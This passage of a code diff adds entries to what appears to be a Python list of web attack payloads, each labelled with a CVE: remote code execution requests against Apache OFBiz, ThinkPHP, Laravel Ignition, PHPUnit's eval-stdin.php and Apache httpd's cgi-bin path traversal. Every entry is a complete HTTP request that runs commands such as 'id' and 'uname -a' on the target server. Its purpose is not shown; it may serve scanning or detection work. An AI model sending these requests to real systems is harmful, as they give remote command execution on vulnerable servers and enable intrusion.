+          '.exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')),
+    ("java", "CVE-2024-32113 Apache OFBiz forgotPassword ;/ ProgramExport Groovy", "raw", "",
+     _raw("POST", "/webtools/control/forgotPassword/;/ProgramExport", [_UA, _FORM],
+          "groovyProgram=throw+new+Exception('id'.execute().text);")),
+    # --- PHP frameworks and servers ---
+    ("php", "CVE-2018-20062 ThinkPHP invokefunction call_user_func_array", "path",
+     "", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
+    ("php", "CVE-2019-9082 ThinkPHP captcha _method __construct filter", "raw", "",
+     _raw("POST", "/index.php?s=captcha", [_UA, _FORM],
+          "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")),
+    ("php", "CVE-2021-3129 Laravel Ignition execute-solution phar filter chain", "raw", "",
+     _raw("POST", "/_ignition/execute-solution", [_UA, _JSON, "Accept: application/json"],
+          '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
+          '{"variableName":"username","viewFile":"php://filter/write=convert.quoted-printable-decode|'
+          'convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}')),
+    ("php", "CVE-2017-9841 PHPUnit eval-stdin.php code execution", "raw", "",
+     _raw("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [_UA, "Content-Type: text/plain"],
+          "<?php echo md5('phpunit_rce'); system('id'); ?>")),
+    ("rce", "CVE-2021-41773 Apache httpd cgi-bin .%2e traversal to /bin/sh", "raw", "",
+     _raw("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", [_UA, "Content-Type: text/plain"],
+          "echo Content-Type: text/plain; echo; id; uname -a")),
 ]
